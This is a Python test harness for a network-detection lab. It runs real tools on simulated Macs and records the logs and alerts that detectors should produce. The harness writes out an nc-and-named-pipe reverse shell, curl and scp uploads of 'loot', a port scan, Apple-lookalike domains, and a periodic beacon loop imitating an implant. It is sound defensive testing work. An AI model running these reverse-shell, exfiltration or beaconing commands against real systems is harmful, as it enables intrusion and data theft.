"""What the Macs of the lab do, and what a watcher has to have seen of it.

Each deed runs a real program and writes down what it did, in the terms of the records: the name asked, the TLS server
name, the HTTP request with its sizes, the SSH banners, the bytes of a bare stream. The keys of `done` are kinds of
records; each holds how often a tuple (see SHAPES) must appear. It is known by construction, not taken from any output.

The Macs work side by side, each one deed after the other. A deed whose program or server is missing is skipped with
its name."""

import collections
import subprocess
import threading

from lab import BARE, BARE6, DNS, DNS6, FORGED, MACS, NTP, PLAIN, PLAIN6, PROXY, SSH, SSH6, WEB, WEB6
from rooms import wait_for

# Record kind: the fields that make the tuple. Of a list of alternatives the first that is there.
SHAPES = {
    "dns": ("src_ip", "dns.type", "dns.rrname", "dns.rrtype", "dns.rcode", "proto"),
    "tls": ("src_ip", "dest_ip", "dest_port", "tls.sni"),
    "http": ("src_ip", "dest_ip", "dest_port", "http.http_method", "http.hostname", "http.url", "http.status", "http.length",
             "http.request_length"),
    "ssh": ("src_ip", "dest_ip", "dest_port", "ssh.client.software_version", "ssh.server.software_version"),
    "icmp_echo": ("src_ip", "dest_ip", "icmp_echo.request", "icmp_echo.payload_length"),
    "stream": ("src_ip", "dest_ip", "dest_port", "proto", "flow.payload_toserver", "flow.payload_toclient"),  # of flow records
    "connections": ("src_ip", "dest_ip", "dest_port"),  # TCP flows
}
BIG = 6_000_000  # bytes copied by scp: beyond lolbin's bound for a bulk transfer


class Programme:
    """run() does everything once. `implant` calls: how often the implant calls home meanwhile; the
    beacon detector looks at the 4th, 8th, 16th … call."""

    def __init__(self, lab, implant_calls=17):
        self.lab = lab
        self.implant_calls = implant_calls
        self.done = {kind: collections.Counter() for kind in SHAPES}
        self.alerts = set()   # (detector, who, where or None, title)
        self.skipped = []     # what was left out and why
        self.failures = []
        self.lock = threading.Lock()
        self.openssh = self._openssh()

    def _openssh(self):
        if "scp" in self.lab.missing:
            return None
        said = subprocess.run(["ssh", "-V"], capture_output=True, text=True).stderr
        return said.split(",")[0].split(" ")[0]  # OpenSSH_9.2p1

    # ------------------------------------------------------------ notes
    def note(self, kind, *values, times=1):
        with self.lock:
            self.done[kind][values] += times

    def alert(self, detector, who, where, title):
        with self.lock:
            self.alerts.add((detector, who, where, title))

    def needs(self, deed, *programs):
        missing = [self.lab.missing[p] for p in programs if p in self.lab.missing]
        if missing:
            with self.lock:
                self.skipped.append(f"{deed}: {', '.join(missing)}")
        return not missing

    # ------------------------------------------------------------ running
    def run(self):
        """All Macs at once. Bare listeners are children of the main thread: they are started before."""
        self.listeners = self._listen()
        threads = [threading.Thread(target=self._guard, args=(work,)) for work in (self.mac1, self.mac2, self.mac3, self.implant)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert not self.failures, "\n".join(self.failures)

    def _guard(self, work):
        try:
            work()
        except BaseException as error:  # told by run(), in the main thread
            self.failures.append(f"{work.__name__}: {type(error).__name__}: {error}")

    def mac1(self):
        v4, v6 = MACS["mac1"]
        self.names("mac1", v4)
        self.web("mac1", v4, v6)
        self.plain("mac1", v4, v6)
        self.pings("mac1", v4, v6)

    def mac2(self):
        v4, v6 = MACS["mac2"]
        self.secure_shell("mac2", v4, v6)
        self.bare("mac2", v4, v6)

    def mac3(self):
        v4, v6 = MACS["mac3"]
        self.clock("mac3", v4)
        self.proxies("mac3", v4)
        self.disguises("mac3", v4)
        self.tunnels("mac3", v4)

    # ------------------------------------------------------------ DNS
    def dig(self, mac, client, name, kind, *options, rcode="NOERROR", server=DNS, proto="UDP"):
        self.lab.run(mac, "dig", f"@{server}", "+tries=1", "+time=10", name, kind, *options)
        self.note("dns", client, "query", name, kind, None, proto)
        self.note("dns", client, "answer", name, kind, rcode, proto)

    def names(self, mac, v4):
        if not self.needs("names", "dig", "dnsmasq"):
            return
        self.dig(mac, v4, "cdn.alpha.example", "A")
        self.dig(mac, v4, "cdn.alpha.example", "AAAA")
        self.dig(mac, v4, "alpha.example", "MX")
        self.dig(mac, v4, "txt.alpha.example", "TXT")
        self.dig(mac, v4, "nobody.alpha.example", "A", rcode="NXDOMAIN")
        self.dig(mac, v4, "mail.gamma.example", "A", "+tcp", proto="TCP")
        self.dig(mac, MACS[mac][1], "mail.gamma.example", "AAAA", server=DNS6)
        self.dig(mac, v4, "big.alpha.example", "TXT", "+bufsize=4096")  # 3 KB: comes in fragments
        self.dig(mac, v4, "big.alpha.example", "TXT", "+noedns", "+ignore")  # cut short: TC
        self.dig(mac, v4, "big.alpha.example", "TXT", "+tcp", proto="TCP")
        self.note("connections", v4, DNS, 53, times=2)

    # ------------------------------------------------------------ HTTP
    def curl(self, mac, *words):
        done = self.lab.run(mac, "curl", "-sS", "--fail", "--max-time", "30", "--cacert", self.lab.folder / "ca.pem", "-o", "/dev/null", *words)
        return done

    def web(self, mac, v4, v6):
        if not self.needs("TLS", "curl", "nginx", "dnsmasq", "openssl"):
            return
        for name, options in (("www.alpha.example", ()), ("cdn.alpha.example", ("--http1.1",)), ("files.beta.example", ("--tls-max", "1.2")),
                              ("mail.gamma.example", ("--http2",))):
            self.curl(mac, "-4", *options, f"https://{name}/health")
            self.note("tls", v4, WEB, 443, name)
            self.note("connections", v4, WEB, 443)
        self.curl(mac, "-6", "https://www.alpha.example/health")
        self.note("tls", v6, WEB6, 443, "www.alpha.example")
        self.note("connections", v6, WEB6, 443)
        self.curl(mac, "-4", "--http1.1", "-T", self.file("upload", 1_200_000), "https://files.beta.example/up")
        self.note("tls", v4, WEB, 443, "files.beta.example")
        self.note("connections", v4, WEB, 443)
        self.curl(mac, f"https://{WEB}/health")  # no name at all
        self.note("tls", v4, WEB, 443, None)
        self.note("connections", v4, WEB, 443)

    def file(self, name, size):
        path = self.lab.folder / name
        with self.lock:
            if not path.exists():
                path.write_bytes(bytes(i * 7 % 251 for i in range(4096)) * (size // 4096) + b"." * (size % 4096))
        return path

    def http(self, client, server, port, method, host, url, length, sent=None, status=200):
        self.note("http", client, server, port, method, host, url, status, length, sent)

    def plain(self, mac, v4, v6):
        if not self.needs("plain HTTP", "curl", "dnsmasq"):
            return
        name = "plain.alpha.example"
        self.curl(mac, "-4", *(word for n in (1, 2, 3) for word in (f"http://{name}/bytes/{n}000", "-o", "/dev/null")))  # one connection
        for n in (1, 2, 3):
            self.http(v4, PLAIN, 80, "GET", name, f"/bytes/{n}000", n * 1000)
        self.curl(mac, "-6", f"http://{name}/bytes/1000000")
        self.http(v6, PLAIN6, 80, "GET", name, "/bytes/1000000", 1_000_000)
        self.curl(mac, "-4", "-d", "user=somebody", f"http://{name}:8080/form")
        self.http(v4, PLAIN, 8080, "POST", name, "/form", 3, 13)
        upload = self.file("upload", 1_200_000)
        self.curl(mac, "-H", "Expect:", "-T", upload, f"http://{PLAIN}/loot.zip")
        self.http(v4, PLAIN, 80, "PUT", PLAIN, "/loot.zip", 8, 1_200_000)
        self.alert("lolbin", v4, PLAIN, "curl: a request with marks of abuse")
        self.alert("lolbin", v4, name, "curl: a request with marks of abuse")
        self.alert("lolbin", v6, name, "curl: a request with marks of abuse")
        self.note("connections", v4, PLAIN, 80, times=2)
        self.note("connections", v6, PLAIN6, 80)
        self.note("connections", v4, PLAIN, 8080)

    # ------------------------------------------------------------ ping
    def pings(self, mac, v4, v6):
        if not self.needs("pings", "ping"):
            return
        for client, server, count, size in ((v4, PLAIN, 3, 56), (v4, BARE, 2, 3000), (v4, WEB, 20, 56), (v6, PLAIN6, 3, 56)):
            self.lab.run(mac, "ping", "-n", "-i", "0.02", "-c", count, "-s", size, "-I", client, server)
            for request in (True, False):
                self.note("icmp_echo", client, server, request, size, times=count)
            self.alert("lolbin", client, server, "ping at work")

    # ------------------------------------------------------------ ssh
    def secure_shell(self, mac, v4, v6):
        if not self.needs("ssh", "scp", "sshd"):
            return
        config = self.lab.folder / "ssh_config"
        config.write_text(f"StrictHostKeyChecking no\nUserKnownHostsFile /dev/null\nLogLevel ERROR\nBatchMode yes\n"
                          f"IdentityFile {self.lab.folder}/user_key\nIdentitiesOnly yes\nUser root\n")
        away = self.lab.folder / "away"
        away.mkdir(exist_ok=True)
        loot = self.file("loot", BIG)
        batch = self.lab.folder / "batch"
        batch.write_text(f"put {self.file('upload', 1_200_000)} {away}/by-sftp\nls {away}\n")

        def session(client, server, port, *words):
            self.lab.run(mac, *words)
            self.note("ssh", client, server, port, self.openssh, self.openssh)
            self.note("connections", client, server, port)
            self.alert("lolbin", client, server, "ssh at work")
        session(v4, SSH, 22, "ssh", "-F", config, SSH, "uname -s; id -u")
        session(v6, SSH6, 22, "ssh", "-F", config, SSH6, "true")
        session(v4, SSH, 2222, "ssh", "-F", config, "-p", 2222, SSH, "head -c 20000 /dev/zero")
        session(v4, SSH, 22, "scp", "-F", config, loot, f"{SSH}:{away}/loot")
        self.alert("lolbin", v4, SSH, "Files leave by ssh (scp, sftp, rsync)")
        session(v4, SSH, 22, "scp", "-F", config, f"{SSH}:{away}/loot", "/dev/null")
        self.alert("lolbin", v4, SSH, "Files come by ssh (scp, sftp, rsync)")
        session(v4, SSH, 22, "sftp", "-F", config, "-b", batch, SSH)

    # ------------------------------------------------------------ nc
    def _listen(self):
        """The listening ends, in the servers' room: nc -l for a chat, a file, a shell, datagrams."""
        if "nc" in self.lab.missing:
            return {}
        found = {}
        for name, words in (("chat", ("-l", BARE, 4444)), ("file", ("-d", "-l", BARE, 5555)), ("file6", ("-d", "-6", "-l", BARE6, 5556)),
                            ("shell", ("-l", BARE, 9001)), ("datagrams", ("-d", "-u", "-l", BARE, 7777))):
            if name.startswith("file"):
                with open(self.lab.folder / f"{name}.got", "wb") as out:
                    found[name] = self.lab.popen("servers", "nc", "-n", *words, stdout=out)
            else:
                found[name] = self.lab.talk("servers", "nc", "-n", *words)
            kind = "-Hlun" if name == "datagrams" else "-Hltn"
            wait_for(lambda: self.lab.run("servers", "ss", kind, f"sport = :{words[-1]}").stdout, what=f"nc to listen for the {name}")
        return found

    def bare(self, mac, v4, v6):
        if not self.needs("nc", "nc"):
            return
        self._chat(mac, v4)
        self._send_files(mac, v4, v6)
        self._shell(mac, v4)
        self._ports(mac, v4)
        self._datagrams(mac, v4)

    def _chat(self, mac, v4):
        """Lines to and fro, each sent when the last has come: known bytes and turns."""
        server = self.listeners["chat"]
        client = self.lab.talk(mac, "nc", "-n", BARE, 4444)
        said = heard = 0
        for n in range(5):
            line, reply = b"line %d from inside\n" % n, b"reply %d from outside\n" % n
            client.stdin.write(line), client.stdin.flush()
            assert server.stdout.readline() == line
            server.stdin.write(reply), server.stdin.flush()
            assert client.stdout.readline() == reply
            said, heard = said + len(line), heard + len(reply)
        server.stdin.close()
        client.kill(), client.wait()
        server.wait(20)
        self.note("stream", v4, BARE, 4444, "TCP", said, heard)
        self.note("connections", v4, BARE, 4444)

    def _send_files(self, mac, v4, v6):
        for name, client, address, port, size in (("file", v4, BARE, 5555, 200_000), ("file6", v6, BARE6, 5556, 50_001)):
            path = self.lab.folder / f"{name}.zip"
            path.write_bytes(b"PK\x03\x04" + bytes(i % 256 for i in range(size - 4)))
            with open(path, "rb") as content:
                self.lab.run(mac, "nc", "-n", "-N", address, port, stdin=content)
            self.listeners[name].wait(20)
            assert (self.lab.folder / f"{name}.got").stat().st_size == size
            self.note("stream", client, address, port, "TCP", size, 0)
            self.note("connections", client, address, port)
            self.alert("lolbin", client, f"{address}:{port}", "File sent without a protocol")

    def _shell(self, mac, v4):
        """A shell that calls out, as it is done with nc and a named pipe."""
        server = self.listeners["shell"]
        pipe = self.lab.folder / "pipe"
        client = self.lab.talk(mac, "sh", "-c", f"mkfifo {pipe} && PS1='sh-3.2$ ' sh -i < {pipe} 2>&1 | nc -n {BARE} 9001 > {pipe}")
        server.stdin.write(b"id\n"), server.stdin.flush()
        wait_for(lambda: b"uid=" in server.stdout.readline(), what="the shell's answer")
        server.stdin.write(b"exit\n"), server.stdin.flush()
        server.stdin.close()
        server.stdout.read()
        client.kill(), client.wait()
        self.note("connections", v4, BARE, 9001)
        self.alert("lolbin", v4, f"{BARE}:9001", "Shell carried out of the host")

    def _ports(self, mac, v4):
        """nc -z over ports of which none is open."""
        self.lab.run(mac, "nc", "-n", "-z", "-w", "2", BARE, "6001-6012", check=False)
        for port in range(6001, 6013):
            self.note("connections", v4, BARE, port)
        self.alert("lolbin", v4, BARE, "Port after port without a byte")

    def _datagrams(self, mac, v4):
        """4,000 bytes in one datagram: three fragments."""
        with open(self.file("datagram", 4000), "rb") as content:
            self.lab.run(mac, "nc", "-n", "-u", "-w", "1", BARE, 7777, stdin=content)
        got = self.listeners["datagrams"].stdout.read1(65536)
        assert len(got) == 4000, len(got)
        self.listeners["datagrams"].kill()
        self.note("stream", v4, BARE, 7777, "UDP", 4000, 0)

    # ------------------------------------------------------------ the rest
    def clock(self, mac, v4):
        if self.needs("NTP", "chronyd"):
            self.lab.run(mac, "chronyd", "-Q", "-t", 10, f"server {NTP} iburst maxsamples 1")

    def proxies(self, mac, v4):
        if self.needs("CONNECT proxy", "curl", "squid", "nginx", "dnsmasq", "openssl"):
            self.curl(mac, "-x", f"http://{PROXY}:3128", "https://www.alpha.example/health")
            self.note("http", v4, PROXY, 3128, "CONNECT", "www.alpha.example", "www.alpha.example:443", 200, 0, None)
            self.note("tls", v4, PROXY, 3128, "www.alpha.example")
            self.curl(mac, "-x", f"http://{PROXY}:3128", "http://plain.alpha.example/bytes/5000")
            self.http(v4, PROXY, 3128, "GET", "plain.alpha.example", "http://plain.alpha.example/bytes/5000", 5000)
            self.note("connections", v4, PROXY, 3128, times=2)
        if self.needs("SOCKS", "curl", "danted", "dnsmasq"):
            self.curl(mac, "--socks5-hostname", f"{PROXY}:1080", "http://plain.alpha.example/bytes/7000")
            self.http(v4, PROXY, 1080, "GET", "plain.alpha.example", "/bytes/7000", 7000)
            self.note("connections", v4, PROXY, 1080)

    def disguises(self, mac, v4):
        """Names that imitate Apple's, and Apple's where they do not belong."""
        if not self.needs("disguises", "curl", "dig", "nginx", "dnsmasq", "openssl"):
            return
        self.curl(mac, "-4", "https://appleid-signin.example/health")
        self.note("tls", v4, WEB, 443, "appleid-signin.example")
        self.alert("apple_allowlist", v4, "appleid-signin.example", "Name that imitates Apple's")
        self.dig(mac, v4, "www.apple.com", "A")
        self.curl(mac, "--resolve", f"www.apple.com:443:{FORGED}", "https://www.apple.com/health")
        self.note("tls", v4, FORGED, 443, "www.apple.com")
        self.note("connections", v4, WEB, 443)
        self.note("connections", v4, FORGED, 443)
        self.alert("apple_allowlist", v4, "www.apple.com", None)
        self.curl(mac, "--resolve", f"www.apple.com:8443:{FORGED}", "https://www.apple.com:8443/health")
        self.note("tls", v4, FORGED, 8443, "www.apple.com")
        self.note("connections", v4, FORGED, 8443)

    def tunnels(self, mac, v4):
        if self.needs("WireGuard", "wg", "ping"):
            self.lab.run(mac, "ping", "-n", "-c", 3, "-i", "0.02", "10.98.0.1")
        if self.needs("OpenVPN", "openvpn", "ping"):
            log = self.lab.log("openvpn-client")
            log.unlink(missing_ok=True)
            client = self.lab.talk(mac, "openvpn", "--config", self.lab.folder / "vpn-client.conf", "--log", log)
            wait_for(lambda: log.exists() and "Initialization Sequence Completed" in log.read_text(), what="the VPN")
            self.lab.run(mac, "ping", "-n", "-c", 3, "-i", "0.02", "10.99.0.1")
            client.terminate(), client.wait()

    def implant(self):
        """Calls one name by a timer, a little over the two seconds that the beacon detector takes for a pause."""
        mac, (v4, _) = "mac3", MACS["mac3"]
        if not self.needs("implant", "curl", "nginx", "dnsmasq", "openssl"):
            return
        script = f"""for i in $(seq {self.implant_calls}); do
            curl -s -4 -o /dev/null --cacert {self.lab.folder}/ca.pem https://sync.delta.example/health || exit 1
            [ $i = {self.implant_calls} ] || sleep 2.0$((i * 7 % 3))
        done"""
        self.lab.run(mac, "sh", "-c", script, timeout=60 + 4 * self.implant_calls)
        self.note("tls", v4, WEB, 443, "sync.delta.example", times=self.implant_calls)
        self.alert("beacon", v4, "sync.delta.example", "Beacon to a rare server")
        self.note("connections", v4, WEB, 443, times=self.implant_calls)
